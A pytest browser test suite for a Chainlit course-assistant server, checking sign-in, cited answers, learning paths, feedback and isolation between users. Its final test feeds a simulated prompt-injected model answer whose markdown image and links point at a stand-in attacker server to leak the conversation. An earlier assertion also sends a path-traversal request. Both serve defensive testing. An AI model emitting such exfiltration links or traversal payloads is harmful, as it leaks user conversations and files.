"""The real Chainlit server in headless Chromium: sign in, cited streamed answer, source panel, learning path,
feedback, resume from history, and one learner not seeing another's thread. Screenshots: test-artifacts/ui-*.png.
"""

from __future__ import annotations

import os
import re
import secrets
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ARTIFACTS, running_chat_server

from assistant.core.settings import DatabaseSettings, Settings
from assistant.planning.learners import LearnerStore
from assistant.planning.passwords import hash_password

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
RUN = secrets.token_hex(3)  # fresh learner ids per run, so a reused PostgreSQL database starts clean for them
ALICE, BOB, CAROL = f"alice-{RUN}", f"bob-{RUN}", f"carol-{RUN}"  # carol is L&D staff
PASSWORDS = {name: secrets.token_urlsafe(12) for name in (ALICE, BOB, CAROL)}
ROLES = {ALICE: "learner", BOB: "learner", CAROL: "lnd"}
POSTGRES_URL = os.environ.get("CP_TEST_POSTGRES_URL")  # optional: run the journey on PostgreSQL
QUESTION = "What is the SBI model?"
GOAL = "Build me a 3-hour path to become a better coach"
SLOW = 240_000  # ms: the server may still be loading the embedding model on a busy machine


@pytest.fixture(scope="module")
def ui(sample_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Settings]]:
    """The chat server on a free port, over the ingested sample library, with two learners."""
    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (apt-get install -y chromium)")
    pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    tmp = tmp_path_factory.mktemp("ui")
    for old in ARTIFACTS.glob("ui-*.png"):  # no stale screenshots from an earlier run
        old.unlink()
    users = ",".join(f"{name}:{hash_password(pw)}:{ROLES[name]}" for name, pw in PASSWORDS.items())
    settings = sample_settings.model_copy(
        update={"database": DatabaseSettings(url=POSTGRES_URL or f"sqlite:///{tmp / 'ui.db'}")}
    )
    with running_chat_server(settings, tmp, users, "ui-server.log") as (base, running):
        yield base, running


def shot(page: Any, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"ui-{name}.png"))


def wait_for(check: Any, timeout: float = 30.0, what: str = "condition") -> Any:
    deadline = time.time() + timeout
    while time.time() < deadline:
        value = check()
        if value:
            return value
        time.sleep(0.3)
    pytest.fail(f"timed out waiting for {what}")


def sign_in(page: Any, base: str, user: str) -> None:
    from playwright.sync_api import expect

    page.goto(f"{base}/login")
    page.fill("#email", user)
    page.fill("#password", PASSWORDS[user])
    page.click("button[type=submit]")
    expect(page.locator("#chat-input")).to_be_visible(timeout=30_000)
    expect(page.locator("#starter-get-a-learning-path")).to_be_enabled(timeout=30_000)  # socket connected


def ask(page: Any, text: str) -> None:
    box = page.locator("#chat-input")
    box.fill(text)
    box.press("Enter")


def test_learner_journey_in_the_browser(ui: tuple[str, Settings]) -> None:
    from playwright.sync_api import expect, sync_playwright

    base, settings = ui
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 1000})
            page = context.new_page()
            frames: list[str] = []
            page.on("websocket", lambda ws: ws.on("framereceived", lambda f: frames.append(str(f))))

            # 1. sign in
            page.goto(f"{base}/login")
            page.fill("#email", ALICE)
            page.fill("#password", "wrong")
            page.click("button[type=submit]")
            expect(page.get_by_role("alert")).to_contain_text("Unable to sign in", timeout=30_000)
            page.fill("#password", PASSWORDS[ALICE])
            page.click("button[type=submit]")
            expect(page.locator("#chat-input")).to_be_visible(timeout=30_000)
            expect(page.locator("#starters")).to_contain_text("Get a learning path")
            expect(page.locator("#starter-get-a-learning-path")).to_be_enabled(timeout=30_000)  # socket connected
            shot(page, "1-signed-in")
            store = LearnerStore(settings.database.url)  # after the server created the tables

            # 2. a streamed answer with numbered, located sources
            ask(page, QUESTION)
            source = page.locator("a.element-link", has_text=re.compile(r"^\[1\] \S.* › \S"))
            expect(source).to_be_visible(timeout=SLOW)
            label = source.inner_text()  # "[1] Course › Module › Section (p. N)"
            course_title = label.removeprefix("[1] ").split(" › ")[0]
            streamed = [f for f in frames if '"stream_token"' in f or '"stream_start"' in f]
            assert len(streamed) >= 3, "the answer was not streamed token by token"
            answer = page.locator(".step").filter(has=source)
            expect(answer).to_contain_text("SBI")
            expect(answer).to_contain_text("[1]")
            expect(answer).to_contain_text("Read next:")
            expect(page.locator("#side-view-content")).to_have_count(0)  # sources open on click only
            shot(page, "2-answer")

            # 3. open a source: the passage with course › module › page, then the PDF at the cited page
            source.click()
            panel = page.locator("#side-view-content")
            expect(panel).to_contain_text(f"Course: {course_title}", timeout=15_000)
            expect(panel).to_contain_text("Module: ")
            assert len(panel.locator("blockquote").inner_text().strip()) > 40  # the cited passage itself
            expect(page.locator("#side-view-title")).to_have_text(label)
            page.wait_for_timeout(800)  # the panel slides in
            shot(page, "3-source")
            pdf_link = answer.locator("a.element-link", has_text=re.compile(r"\.pdf, p\. \d+$"))
            if pdf_link.count():  # a PDF citation also opens the module at the cited page
                pdf_link.first.click()
                expect(panel.locator("canvas").first).to_be_visible(timeout=30_000)
                shot(page, "3-source-pdf")
            page.locator("#side-view-title button").click()

            # 4. a learning path; mark a step done
            ask(page, GOAL)
            mark = page.get_by_role("button", name="Mark step 1 done")
            expect(mark).to_be_visible(timeout=SLOW)
            path_message = page.locator(".step").filter(has_text="Learning path:").last
            path_text = path_message.inner_text()
            total = int(re.search(r"0 of (\d+) done", path_text).group(1))  # type: ignore[union-attr]
            assert total >= 2
            path_message.evaluate("el => el.scrollIntoView({block: 'start'})")
            shot(page, "4-path")
            mark.click()
            expect(page.get_by_text(f"1 of {total} done")).to_be_visible(timeout=30_000)
            expect(page.get_by_role("button", name="Mark step 1 done")).to_have_count(0)
            page.get_by_role("button", name="Save this path").click()
            expect(page.get_by_text("Saved to your paths")).to_be_visible(timeout=30_000)
            assert len(store.completed(ALICE)) == 1
            assert [p.goal for p in store.playlists(ALICE)] == [GOAL]
            path_message.evaluate("el => el.scrollIntoView({block: 'start'})")
            shot(page, "4-path-done")

            # 5. thumbs down on the answer lands in the learner store's question log
            answer.locator(".negative-feedback-off").click()
            page.locator("textarea").last.fill("Too short for me")
            page.locator("#submit-feedback").click()
            logged = wait_for(
                lambda: [q for q in store.questions(learner_id=ALICE) if q.feedback is not None],
                what="feedback in the question log",
            )
            assert [(q.question, q.feedback, q.feedback_comment) for q in logged] == [
                (QUESTION, -1, "Too short for me")
            ]
            assert logged[0].message_id
            shot(page, "5-feedback")

            # 6. reload: the thread is in the history and resumes with its sources and progress
            thread_id = wait_for(lambda: re.search(r"/thread/([0-9a-f-]{36})", page.url), what="thread url").group(1)
            page.goto(base)
            history = page.locator(f"#thread-{thread_id}")
            expect(history).to_contain_text(QUESTION, timeout=30_000)
            history.click()
            expect(page.get_by_text(f"1 of {total} done")).to_be_visible(timeout=30_000)
            expect(page.get_by_role("button", name="Mark step 2 done")).to_be_visible(timeout=30_000)
            shot(page, "6-resumed")
            page.locator("a.element-link", has_text=label).first.click()
            expect(page.locator("#side-view-content")).to_contain_text(f"Course: {course_title}", timeout=15_000)
            page.locator("#side-view-title button").click()
            ask(page, "show my progress")
            progress = page.locator(".step").filter(has_text="Your progress").last
            expect(progress).to_contain_text(f"1 of {total} done", timeout=SLOW)
            shot(page, "6-progress")
            limit = settings.limits.max_question_chars
            ask(page, "why " * (limit // 4 + 1))
            expect(page.get_by_text(f"and I can take up to {limit:,}")).to_be_visible(timeout=30_000)

            # isolation: alice reads her thread over HTTP, bob (signed in) cannot, nobody else either
            assert page.request.get(f"{base}/project/thread/{thread_id}").status == 200
            bob = pw.request.new_context(base_url=base)
            assert bob.get(f"/project/thread/{thread_id}").status == 401
            assert bob.get("/coursepilot/source/giving-feedback/02-the-sbi-model.pdf").status == 401
            login = bob.post("/login", form={"username": BOB, "password": PASSWORDS[BOB]})
            assert login.status == 200
            assert bob.get(f"/project/thread/{thread_id}").status in (401, 403, 404)
            threads = bob.post("/project/threads", data={"pagination": {"first": 20}, "filter": {}}).json()
            assert thread_id not in {t["id"] for t in threads["data"]}
            pdf = bob.get("/coursepilot/source/giving-feedback/02-the-sbi-model.pdf")
            assert pdf.status == 200 and pdf.body().startswith(b"%PDF")
            assert bob.get("/coursepilot/source/giving-feedback/..%2Fexcel-basics%2Fcourse.yaml").status == 404
            assert (
                bob.post(
                    "/project/file?session_id=x",
                    multipart={"file": {"name": "a.txt", "mimeType": "text/plain", "buffer": b"hi"}},
                ).status
                == 403
            )
            bob.dispose()
            assert store.completed(BOB) == set() and store.playlists(BOB) == []
        finally:
            browser.close()


def test_only_lnd_staff_get_the_insights_report(ui: tuple[str, Settings]) -> None:
    """`/report` is refused to a learner and delivers the HTML report to an L&D user, in the same server."""
    from playwright.sync_api import expect, sync_playwright

    base, _ = ui
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            learner = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
            sign_in(learner, base, BOB)
            ask(learner, "/report")
            expect(learner.get_by_text("The insights report is for L&D staff")).to_be_visible(timeout=SLOW)
            expect(learner.get_by_text("insights-report.html")).to_have_count(0)

            staff = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
            sign_in(staff, base, CAROL)
            ask(staff, "/report")
            report = staff.get_by_text("insights-report.html").first
            expect(report).to_be_visible(timeout=SLOW)
            expect(staff.get_by_text("Learning insights")).to_be_visible(timeout=30_000)
            expect(staff.get_by_text("The insights report is for L&D staff")).to_have_count(0)
            shot(staff, "7-lnd-report")
        finally:
            browser.close()


class Probe:
    """An HTTP server standing in for an attacker's host: it records every request the page makes to it."""

    def __init__(self) -> None:
        import http.server
        import threading

        hits: list[str] = []
        self.hits = hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_csp_and_no_remote_images_from_model_output(
    sample_settings: Settings, tmp_path_factory: pytest.TempPathFactory, fake_openai: Any
) -> None:
    """Model mode with an injected image and link (a prompt-injected answer would carry the conversation in the
    URL): the page fetches nothing from that host, shows no image or link, and its CSP blocks any remote image."""
    if not CHROMIUM.exists():
        pytest.skip("Debian chromium is not installed at /usr/bin/chromium (apt-get install -y chromium)")
    pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    from fake_openai import Reply
    from playwright.sync_api import expect, sync_playwright

    probe = Probe()
    leak = f"http://127.0.0.1:{probe.port}"
    fake_openai.when(
        r"SBI",
        Reply.answer(
            f"The SBI model names the Situation, the Behaviour and its Impact [S1]. ![chart]({leak}/leak.png?q=SBI) "
            f"Read [more here]({leak}/more) or <{leak}/auto>."
        ),
    )
    tmp = tmp_path_factory.mktemp("ui-csp")
    chat = sample_settings.chat.model_copy(
        update={"provider": "openai", "base_url": fake_openai.base_url, "api_key": "sk-test", "model": "fake"}
    )
    settings = sample_settings.model_copy(
        update={"chat": chat, "database": DatabaseSettings(url=f"sqlite:///{tmp / 'ui.db'}")}
    )
    users = f"{ALICE}:{hash_password(PASSWORDS[ALICE])}:learner"
    try:
        with running_chat_server(settings, tmp, users, "ui-csp-server.log") as (base, _), sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                page = browser.new_context(viewport={"width": 1280, "height": 1000}).new_page()
                sign_in(page, base, ALICE)
                ask(page, QUESTION)
                answer = page.locator(".step").filter(has_text="image not shown")
                expect(answer).to_contain_text("Impact", timeout=SLOW)
                expect(answer).to_contain_text("more here")
                page.wait_for_timeout(1500)
                assert page.locator(f"img[src*='{probe.port}']").count() == 0
                assert page.locator(f"a[href*='{probe.port}']").count() == 0
                assert probe.hits == [], f"the page fetched {probe.hits} from the attacker's host"
                shot(page, "8-neutralised")

                violation = page.evaluate(
                    """url => new Promise(resolve => {
                        document.addEventListener('securitypolicyviolation',
                            e => resolve(e.violatedDirective + ' ' + e.blockedURI));
                        const img = new Image();
                        img.src = url;
                        document.body.appendChild(img);
                        setTimeout(() => resolve(null), 5000);
                    })""",
                    f"{leak}/csp.png",
                )
                assert violation and violation.startswith("img-src"), violation
                assert probe.hits == []
            finally:
                browser.close()
    finally:
        probe.close()
